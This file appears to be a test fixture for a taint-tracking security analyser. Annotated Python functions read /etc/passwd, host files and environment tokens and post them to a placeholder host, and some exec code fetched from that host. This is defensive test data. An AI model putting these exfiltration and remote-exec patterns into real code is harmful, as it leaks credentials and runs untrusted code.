"""Built-in functions, file objects, and methods of strings and containers."""
import codecs
import io
import json
import os
import types

import requests

U = "https://collector.example/u"


def open_read():
    f = open("/etc/passwd")  #~ source(FILE) f1, capability(FILES)
    requests.post(U, data=f.read())  #~ sink(egress.http) f1, finding(traced) f1


def open_written():
    with open("/tmp/spool", "w") as f:  #~ capability(FILE_WRITE)
        f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f2
    requests.post(U, data=codecs.open("/tmp/spool", "w+").read())  #~ sink(egress.http) f2, finding(traced) f2


def open_for_nothing():
    requests.post(U, data=io.open("/tmp/unwritten", "w").name)  #~ ok


def open_twice():
    f = open("/tmp/twice", "w+")
    f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f4
    f.seek(0)
    g = open("/tmp/twice", "a+")
    requests.post(U, data=g.read())  #~ sink(egress.http) f4, finding(traced) f4


def open_constant():
    open("/tmp/spool", "w").write("started")  #~ ok
    codecs.open("/tmp/spool", mode="a").writelines(["started"])  #~ ok


def file_read_lines():
    for line in open("/etc/hosts").readlines():  #~ source(FILE) f6
        requests.post(U, data=line)  #~ sink(egress.http) f6, finding(traced) f6


def file_readinto():
    buffer = bytearray(10)
    open("/etc/hosts", "rb").readinto(buffer)  #~ source(FILE) f7
    requests.post(U, data=buffer)  #~ sink(egress.http) f7, finding(traced) f7


def file_position():
    f = open("/etc/hosts")
    requests.post(U, data=str(f.truncate()))  #~ ok
    requests.post(U, data=io.BytesIO(b"ready").read())  #~ ok
    buffer = bytearray(10)
    io.BytesIO(b"ready").readinto(buffer)  #~ ok
    requests.post(U, data=buffer)  #~ ok


def file_descriptor():
    fd = open("/etc/hosts").fileno()  #~ source(FILE) f9
    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f9, finding(traced) f9


def file_descriptor_of_constant():
    fd = io.BytesIO(b"x").fileno()  #~ ok
    requests.post(U, data=os.read(fd, 100))  #~ ok


def file_name():
    f = open("/tmp/named", "w")
    f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f11
    requests.post(U, data=open(f.name, "a+").read())  #~ sink(egress.http) f11, finding(traced) f11


def bytes_io():
    f = io.BytesIO(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f12
    requests.post(U, data=f.getvalue())  #~ sink(egress.http) f12, finding(traced) f12


def text_wrapper():
    raw = io.BytesIO(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f13
    requests.post(U, data=io.TextIOWrapper(raw).read())  #~ sink(egress.http) f13, finding(traced) f13


def text_wrapper_constant():
    requests.post(U, data=io.TextIOWrapper(io.BytesIO(b"x")).read())  #~ ok
    requests.post(U, data=io.StringIO("x").getvalue())  #~ ok


def untyped_read(stream):
    stream.data = os.getenv("T")  #~ source(ENVIRONMENT) f15
    requests.post(U, data=stream.data.read())  #~ sink(egress.http) f15, finding(traced) f15


def untyped_readinto(stream):
    stream.data = os.getenv("T")  #~ source(ENVIRONMENT) f16
    buffer = bytearray(10)
    stream.data.readinto(buffer)
    requests.post(U, data=buffer)  #~ sink(egress.http) f16, finding(traced) f16


def untyped_write(stream):
    stream.write(os.getenv("T"))  #~ source(ENVIRONMENT) f17
    requests.post(U, data=stream.read())  #~ sink(egress.http) f17, finding(traced) f17


def untyped_constant(stream):
    stream.write("x")
    requests.post(U, data=stream.read())  #~ ok


def run_source():
    exec(requests.get(U).text)  #~ source(NETWORK) f19, sink(exec.code) f19, finding(traced) f19, capability(DYNAMIC_CODE)


def run_value():
    value = eval(os.getenv("T"))  #~ source(ENVIRONMENT) f20
    requests.post(U, data=value)  #~ sink(egress.http) f20, finding(traced) f20


def run_constant():
    eval("1 + 1")  #~ ok
    compile("1 + 1", "x", "eval")  #~ ok
    types.FunctionType(compile("1", "x", "eval"), {})  #~ ok
    execfile("local.py")  #~ ok
    __import__("json")  #~ ok


def compile_then_exec():
    code = compile(requests.get(U).text, "x", "exec")  #~ source(NETWORK) f22, capability(DYNAMIC_CODE)
    exec(code)  #~ sink(exec.code) f22, finding(traced) f22


def compile_to_function():
    code = compile(requests.get(U).text, "x", "exec")  #~ source(NETWORK) f23
    types.FunctionType(code, {})()  #~ sink(exec.code) f23, finding(traced) f23


def exec_file():
    execfile(requests.get(U).text)  #~ source(NETWORK) f24, sink(exec.code) f24, finding(traced) f24


def import_by_name():
    __import__(requests.get(U).text)  #~ source(NETWORK) f25, sink(exec.load) f25, finding(traced) f25


def ask():
    answer = input("name? ")  #~ source(INPUT) f26
    requests.post(U, data=answer)  #~ sink(egress.http) f26, finding(traced) f26


def ask_and_forget():
    input("press return")  #~ ok


def print_to_buffer():
    out = io.StringIO()
    print(os.getenv("T"), file=out)  #~ source(ENVIRONMENT) f28
    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f28, finding(traced) f28


def print_to_terminal():
    requests.post(U, data=print(os.getenv("T")))  #~ ok


def as_text():
    text = str(os.getenv("T"))  #~ source(ENVIRONMENT) f30
    requests.post(U, data=text)  #~ sink(egress.http) f30, finding(traced) f30


def as_repr():
    text = repr(os.getenv("T"))  #~ source(ENVIRONMENT) f31
    requests.post(U, data=text)  #~ sink(egress.http) f31, finding(traced) f31


def from_bytes():
    number = int.from_bytes(os.getenvb(b"T"), "big")  #~ source(ENVIRONMENT) f32
    requests.post(U, data={"n": number})  #~ sink(egress.http) f32, finding(traced) f32


def text_constant():
    requests.post(U, data=str(1) + repr(2))  #~ ok
    requests.post(U, data=int.from_bytes(b"1", "big"))  #~ ok
    requests.post(U, data=list([1]) + sorted([2]))  #~ ok
    requests.post(U, data=dict(a=1))  #~ ok
    requests.post(U, data=next(iter([1])))  #~ ok


def as_list():
    items = list([os.getenv("T")])  #~ source(ENVIRONMENT) f34
    requests.post(U, data=items[0])  #~ sink(egress.http) f34, finding(traced) f34


def in_order():
    items = sorted([os.getenv("T")])  #~ source(ENVIRONMENT) f35
    requests.post(U, data=items[0])  #~ sink(egress.http) f35, finding(traced) f35


def as_dict():
    body = dict(token=os.getenv("T"))  #~ source(ENVIRONMENT) f36
    requests.post(U, data=body)  #~ sink(egress.http) f36, finding(traced) f36


def first():
    item = next(iter([os.getenv("T")]))  #~ source(ENVIRONMENT) f37
    requests.post(U, data=item)  #~ sink(egress.http) f37, finding(traced) f37


def numbered():
    for number, item in enumerate([os.getenv("T")]):  #~ source(ENVIRONMENT) f38
        requests.post(U, data=item)  #~ sink(egress.http) f38, finding(traced) f38


def number_alone():
    for number, item in enumerate([os.getenv("T")]):  #~ ok
        requests.post(U, data={"at": number})  #~ ok


def paired():
    for name, value in zip(["a"], [os.getenv("T")]):  #~ source(ENVIRONMENT) f40
        requests.post(U, data=value)  #~ sink(egress.http) f40, finding(traced) f40


def pair_of_names():
    for name, value in zip(["a"], [os.getenv("T")]):  #~ ok
        requests.post(U, data=name)  #~ ok


def largest():
    value = max([os.getenv("T")])  #~ source(ENVIRONMENT) f42
    requests.post(U, data=value)  #~ sink(egress.http) f42, finding(traced) f42


def largest_constant():
    requests.post(U, data=max([1, 2]))  #~ ok


def send_one(item):
    requests.post(U, data=item)  #~ sink(egress.http) fmap, finding(traced) fmap


def mapped():
    list(map(send_one, [os.getenv("T")]))  #~ source(ENVIRONMENT) fmap


def send_and_keep(item):
    requests.post(U, data=item)  #~ sink(egress.http) ffilter, finding(traced) ffilter
    return True


def filtered():
    kept = filter(send_and_keep, [os.getenv("T")])  #~ source(ENVIRONMENT) ffilter


def harmless(item):
    return len(item)


def mapped_harmless():
    requests.post(U, data=list(map(harmless, [os.getenv("T")])))  #~ ok
    requests.post(U, data=list(filter(harmless, ["a"])))  #~ ok


def truth():
    requests.post(U, data={"set": any(os.getenv("T"))})  #~ ok


def truth_and_value():
    token = os.getenv("T")  #~ source(ENVIRONMENT) f51
    requests.post(U, data=token or any(token))  #~ sink(egress.http) f51, finding(traced) f51


def joined():
    text = ",".join([os.getenv("T")])  #~ source(ENVIRONMENT) f52
    requests.post(U, data=text)  #~ sink(egress.http) f52, finding(traced) f52


def formatted():
    text = "t={}".format(os.getenv("T"))  #~ source(ENVIRONMENT) f53
    requests.post(U, data=text)  #~ sink(egress.http) f53, finding(traced) f53


def encoded():
    data = os.getenv("T").encode()  #~ source(ENVIRONMENT) f54
    requests.post(U, data=data)  #~ sink(egress.http) f54, finding(traced) f54


def stripped():
    text = os.getenv("T").strip()  #~ source(ENVIRONMENT) f55
    requests.post(U, data=text)  #~ sink(egress.http) f55, finding(traced) f55


def replaced():
    text = "user=@".replace("@", os.getenv("T"))  #~ source(ENVIRONMENT) f56
    requests.post(U, data=text)  #~ sink(egress.http) f56, finding(traced) f56


def translated(table):
    text = os.getenv("T").translate({})  #~ source(ENVIRONMENT) f57
    requests.post(U, data=text)  #~ sink(egress.http) f57, finding(traced) f57


def text_method_constants():
    requests.post(U, data=",".join(["a", "b"]))  #~ ok
    requests.post(U, data="t={}".format(1))  #~ ok
    requests.post(U, data="a".encode().decode())  #~ ok
    requests.post(U, data=" a ".strip().split("a"))  #~ ok
    requests.post(U, data="a".replace("a", "b").translate({}))  #~ ok


def counted():
    requests.post(U, data={"dots": os.getenv("T").find(".")})  #~ ok


def not_counted():
    token = os.getenv("T")  #~ source(ENVIRONMENT) f60
    requests.post(U, data={"dots": token, "n": token.find(".")})  #~ sink(egress.http) f60, finding(traced) f60


def appended():
    items = []
    items.append(os.getenv("T"))  #~ source(ENVIRONMENT) f61
    requests.post(U, data=items)  #~ sink(egress.http) f61, finding(traced) f61


def inserted():
    items = []
    items.insert(0, os.getenv("T"))  #~ source(ENVIRONMENT) f62
    requests.post(U, data=items)  #~ sink(egress.http) f62, finding(traced) f62


def extended():
    items = []
    items.extend([os.getenv("T")])  #~ source(ENVIRONMENT) f63
    requests.post(U, data=items)  #~ sink(egress.http) f63, finding(traced) f63


def updated():
    body = {}
    body.update({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f64
    requests.post(U, data=body)  #~ sink(egress.http) f64, finding(traced) f64


def defaulted():
    body = {}
    body.setdefault("t", os.getenv("T"))  #~ source(ENVIRONMENT) f65
    requests.post(U, data=body)  #~ sink(egress.http) f65, finding(traced) f65


def gotten():
    body = {"t": os.getenv("T")}  #~ source(ENVIRONMENT) f66
    requests.post(U, data=body.get("t"))  #~ sink(egress.http) f66, finding(traced) f66


def gotten_other_key():
    body = {"t": os.getenv("T"), "v": "1"}
    requests.post(U, data=body.get("v"))  #~ ok


def popped():
    items = [os.getenv("T")]  #~ source(ENVIRONMENT) f68
    requests.post(U, data=items.pop())  #~ sink(egress.http) f68, finding(traced) f68


def each_item():
    for name, value in {"t": os.getenv("T")}.items():  #~ source(ENVIRONMENT) f69
        requests.post(U, data=value)  #~ sink(egress.http) f69, finding(traced) f69


def each_value():
    body = {"t": os.getenv("T")}  #~ source(ENVIRONMENT) f70
    for value in body.values():
        requests.post(U, data=value)  #~ sink(egress.http) f70, finding(traced) f70


def copied():
    body = {"t": os.getenv("T")}  #~ source(ENVIRONMENT) f71
    requests.post(U, data=body.copy())  #~ sink(egress.http) f71, finding(traced) f71


def container_constants():
    items = ["a"]
    items.append("b")  #~ ok
    items.insert(0, "c")  #~ ok
    items.extend(["d"])  #~ ok
    body = {"v": "1"}
    body.update({"w": "2"})  #~ ok
    body.setdefault("x", "3")  #~ ok
    requests.post(U, data=items.pop())  #~ ok
    requests.post(U, data=list(body.items()) + list(body.values()))  #~ ok
    requests.post(U, data=body.copy())  #~ ok


class Record:
    def __init__(self, **values):
        for name, value in values.items():
            setattr(self, name, value)


def set_by_name():
    record = Record(host=os.getenv("HOST"))  #~ source(ENVIRONMENT) f90
    requests.post(U, data=record.host)  #~ sink(egress.http) f90, finding(traced) f90


def set_name_alone():
    box = types.SimpleNamespace()
    setattr(box, os.getenv("FIELD"), "started")  #~ ok
    requests.post(U, data=box.state)  #~ ok


def read_in_pieces():
    f = open("/etc/pieces", "rb")  #~ source(FILE) f90
    for piece in iter(lambda: f.read(4096), b""):
        requests.post(U, data=piece)  #~ sink(egress.http) f90, finding(traced) f90


def read_in_pieces_constant():
    for piece in iter(lambda: "ping", b""):  #~ ok
        requests.post(U, data=piece)  #~ ok


def pieces_of_text():
    text = json.dumps({"k": os.getenv("T")})  #~ source(ENVIRONMENT) f91
    requests.post(U, data=text.split(",")[0])  #~ sink(egress.http) f91, finding(traced) f91
